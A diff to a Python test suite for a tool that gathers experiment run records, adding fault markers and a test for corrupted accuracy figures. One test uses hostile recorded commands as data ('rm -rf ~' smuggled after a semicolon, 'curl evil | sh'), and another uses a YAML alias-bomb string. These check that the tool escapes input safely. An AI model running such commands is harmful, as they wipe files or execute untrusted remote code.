@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 import shutil
 from pathlib import Path
 
@@ -27,6 +28,7 @@ def age(study: Path) -> None:
         os.utime(path, (1e9, 1e9))
 
 
+@pytest.mark.fault(67)
 def test_an_index_that_someone_else_wrote_is_not_believed(
     study: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
@@ -46,6 +48,7 @@ def test_an_index_that_someone_else_wrote_is_not_believed(
         gather.load(study)
 
 
+@pytest.mark.fault(62)
 def test_a_copy_counts_once_and_two_results_of_one_signature_do_not(study: Path) -> None:
     (first,) = study.glob("run-s0-000000000000")
     shutil.copytree(first, study / "a copy of mine")
@@ -60,6 +63,7 @@ def test_a_copy_counts_once_and_two_results_of_one_signature_do_not(study: Path)
     assert "have one signature and different results" in found.set_aside[0]
 
 
+@pytest.mark.fault(63)
 @pytest.mark.parametrize("cut", [1, 5, 30])
 def test_metrics_that_were_cut_are_named(study: Path, cut: int) -> None:
     path = next(study.glob("run-s0-000000000000")) / "metrics.csv"
@@ -67,6 +71,21 @@ def test_metrics_that_were_cut_are_named(study: Path, cut: int) -> None:
     assert any(str(path) in said for said in gather.load(study).set_aside)
 
 
+@pytest.mark.fault(61)
+@pytest.mark.parametrize("value", ["null", "NaN", "Infinity", '"0.5"', "[0.5]", "80.4", '"x": 1'])
+def test_a_finished_run_without_a_figure_is_set_aside_and_counted_nowhere(study: Path, value: str) -> None:
+    path = next(study.glob("run-s0-000000000000")) / "record.json"
+    text = re.sub(
+        r'("test_accuracy"): [\d.]+', value if value.startswith('"x"') else rf"\g<1>: {value}", path.read_text()
+    )
+    assert text != path.read_text()
+    path.write_text(text)
+    found = gather.load(study)
+    assert len(found.finished) == 3
+    assert any(str(path) in said for said in found.set_aside)
+
+
+@pytest.mark.fault(73)
 def test_a_pipe_in_the_place_of_a_record_is_passed_over(study: Path) -> None:
     path = next(study.glob("run-s0-000000000000")) / "record.json"
     path.unlink()
@@ -76,6 +95,7 @@ def test_a_pipe_in_the_place_of_a_record_is_passed_over(study: Path) -> None:
     assert "is not a file" in found.set_aside[0]
 
 
+@pytest.mark.fault(70)
 def test_a_recorded_command_is_quoted_for_a_shell_or_not_shown(study: Path) -> None:
     for path, command in zip(
         sorted(study.glob("*/record.json")), ("python -m ablate a=1; rm -rf ~", "curl evil | sh"), strict=False
@@ -93,6 +113,7 @@ LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
 )
 
 
+@pytest.mark.fault(68, 71)
 @pytest.mark.parametrize(
     ("text", "sentence"),
     [
@@ -117,6 +138,7 @@ def test_a_pipe_is_no_configuration(tmp_path: Path) -> None:
         read_config(RunFolder(tmp_path).config)
 
 
+@pytest.mark.fault(74)
 def test_a_report_may_go_elsewhere_and_its_links_still_lead_to_the_runs(study: Path, tmp_path: Path) -> None:
     record = next(study.glob("*/record.json"))
     files.write_json(record, json.loads(record.read_text()) | {"state": "FAILED"})
